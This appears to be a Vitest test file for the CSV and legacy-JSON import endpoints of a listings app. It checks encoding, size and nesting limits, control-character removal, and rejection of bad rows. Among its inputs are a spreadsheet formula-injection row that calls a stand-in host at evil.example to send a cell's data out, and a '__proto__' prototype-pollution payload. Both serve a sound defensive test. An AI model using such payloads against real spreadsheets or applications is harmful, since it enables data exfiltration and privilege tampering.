import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { CONTROL_TEXTS } from './corpus.ts';
import { type Answer, expectRefused, oneFile, stillHealthy } from './harness.ts';

// The bad-input corpus against the stock imports: POST /import/csv and POST /import/legacy. Unreadable files are
// refused whole (encoding, size, a runaway line, nesting), bad rows are refused by the item schema the API uses
// (all or nothing by default), control characters are removed the same way on SQLite and PostgreSQL.

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ IMPORT_MAX_LINE_BYTES: String(64 * 1024), IMPORT_MAX_ROWS: '50', IMPORT_MAX_BYTES: String(1024 * 1024), PRICE_DROP_CRON: 'off' }, { runJobs: false });
});
afterAll(async () => {
  await t?.close();
});

const send = (url: string, data: Buffer | string, filename: string, type: string) => () =>
  t.app.inject({ method: 'POST', url, ...oneFile('file', filename, data, type) }) as Promise<Answer>;
const csv = (data: Buffer | string, query = '') => send(`/import/csv${query}`, data, 'stock.csv', 'text/csv');
const legacy = (data: Buffer | string, query = '') => send(`/import/legacy${query}`, data, 'items.json', 'application/json');
const utf16 = (s: string, bom: boolean) => Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(s, 'utf16le')]);

async function items(): Promise<{ id: string; title: string; brand: string | null; description: string }[]> {
  return (await t.app.inject({ method: 'GET', url: '/listings/all' })).json();
}
async function clear() {
  for (const i of await items()) await t.app.inject({ method: 'DELETE', url: `/listings/${i.id}` });
}

describe('POST /import/csv', () => {
  it('refuses unreadable files whole: empty, UTF-16, Latin-1, binary, a runaway line, too many rows or bytes', async () => {
    const header = 'titre;prix;marque\n';
    const cases: [string, Buffer | string, number, string][] = [
      ['zero-byte', Buffer.alloc(0), 400, 'csv_empty'],
      ['UTF-16 with BOM', utf16(`${header}Pull;12;Zara\n`, true), 415, 'csv_invalid_encoding'],
      ['UTF-16 without BOM', utf16(`${header}Pull;12;Zara\n`, false), 415, 'csv_invalid_encoding'],
      ['Latin-1', Buffer.from(`${header}Robe été;12;Zara\n`, 'latin1'), 415, 'csv_invalid_encoding'],
      ['binary', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + 128) % 256)), 415, 'csv_invalid_encoding'],
      ['unclosed quote over the line cap', `${header}"Pull;12;Zara\n${'x'.repeat(100 * 1024)}\n`, 413, 'csv_line_too_long'],
      ['one long row', `${header}${'y'.repeat(80 * 1024)};12;Zara\n`, 413, 'csv_line_too_long'],
      ['too many rows', header + Array.from({ length: 60 }, (_, i) => `Pull ${i};12;Zara\n`).join(''), 413, 'csv_too_many_rows'],
      ['over IMPORT_MAX_BYTES', header + `Pull;12;Zara\n`.repeat(90_000), 413, 'file_too_large'],
    ];
    for (const [name, data, status, code] of cases) await expectRefused(t, `csv ${name}`, csv(data), status, code);
    await expectRefused(t, 'csv not multipart', () => t.app.inject({ method: 'POST', url: '/import/csv', payload: 'titre\nPull\n', headers: { 'content-type': 'text/csv' } }) as Promise<Answer>, 415, 'unsupported_media_type');
  });

  it('refuses rows the API would refuse (formulas, prices, rates, lengths) naming each line, and writes none of them', async () => {
    const rows = [
      'titre;prix;prix_plancher;taux_de_baisse;marque',
      '=HYPERLINK("http://evil.example/?"&A1);12;;;Zara',
      '@SUM(1+1);12;;;Zara',
      'Pull négatif;-5;;;Zara',
      'Pull plancher;12;-3;;Zara',
      'Pull taux;12;;7.5;Zara',
      `${'T'.repeat(10_000)};12;;;Zara`,
      'Pull correct;12;10;0.05;Zara',
    ].join('\n');
    const res = await expectRefused(t, 'csv bad rows', csv(rows), 422, 'import_rejected');
    const lines = new Set((res.json().error!.details as { errors: { line: number }[] }).errors.map((e) => e.line));
    expect([...lines].sort()).toEqual([2, 3, 4, 5, 6, 7]);
    // mode=partial takes the good row only.
    const partial = await csv(rows, '?mode=partial')();
    expect(partial.statusCode, partial.body).toBe(200);
    expect(partial.json()).toMatchObject({ imported: 1, skipped: 6 });
    await clear();
  });

  it('removes NUL and control characters from every cell, the same on both databases', async () => {
    const body = ['titre;marque;description', ...CONTROL_TEXTS.map(([raw]) => `"${raw}";"Za\u0000ra\u001b";"${raw} desc"`)].join('\n');
    const res = await csv(body)();
    expect(res.statusCode, res.body).toBe(200);
    const got = await items();
    expect(got.map((i) => i.title).sort()).toEqual(CONTROL_TEXTS.map(([, clean]) => clean.replace(/\s+/g, ' ').trim()).sort());
    for (const i of got) expect(i.brand).toBe('Zara');
    // The search finds them by their clean words (a NUL in the filter is removed as well).
    const found = await t.app.inject({ method: 'GET', url: `/listings?q=${encodeURIComponent('Pull\u0000')}` });
    expect(found.statusCode, found.body).toBe(200);
    expect(found.json().items.length).toBe(1);
    await clear();
    await stillHealthy(t);
  });
});

describe('POST /import/legacy', () => {
  it('refuses malformed, deeply nested, non-UTF-8 or foreign JSON whole', async () => {
    const cases: [string, Buffer | string, number, string][] = [
      ['zero-byte', Buffer.alloc(0), 400, 'legacy_invalid_json'],
      ['truncated', '[{"title": "Pull', 400, 'legacy_invalid_json'],
      ['deep arrays', `${'['.repeat(200_000)}${']'.repeat(200_000)}`, 400, 'json_too_deep'],
      ['deep inside an item', `[{"title":"Pull","extra":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}]`, 400, 'json_too_deep'],
      ['Latin-1', Buffer.from('[{"title":"Robe été"}]', 'latin1'), 400, 'legacy_invalid_json'],
      ['UTF-16', utf16('[{"title":"Pull"}]', true), 400, 'legacy_invalid_json'],
      ['a number', '42', 400, 'legacy_unrecognised'],
    ];
    for (const [name, data, status, code] of cases) await expectRefused(t, `legacy ${name}`, legacy(data), status, code);
  });

  it('reads a "__proto__" key as a plain key: no object anywhere gains a property', async () => {
    const res = await legacy('[{"title":"Pull","__proto__":{"admin":true},"extra":{"constructor":{"prototype":{"admin":true}}}}]')();
    expect(res.statusCode, res.body).toBe(200);
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    await clear();
  });

  it('refuses items the API would refuse, and cleans control characters from the rest', async () => {
    const bad = JSON.stringify([{ title: 'Pull', price: -5 }, { title: 'Robe', price: 'gratuit' }, { title: '' }]);
    await expectRefused(t, 'legacy bad items', legacy(bad), 422, 'import_rejected');
    const good = JSON.stringify([{ id: 'old-1', title: 'Pull\u0000 \u001b[31mrouge', brand: 'Za\u0000ra', description: 'a\r\nb', price_history: [{ date: '2024-01-01 10:00:00', new_price: 12, reason: 'init\u0000' }], price: 12 }]);
    const res = await legacy(good)();
    expect(res.statusCode, res.body).toBe(200);
    const [item] = await items();
    expect(item).toMatchObject({ title: 'Pull [31mrouge', brand: 'Zara', description: 'a\nb' });
    await clear();
  });
});
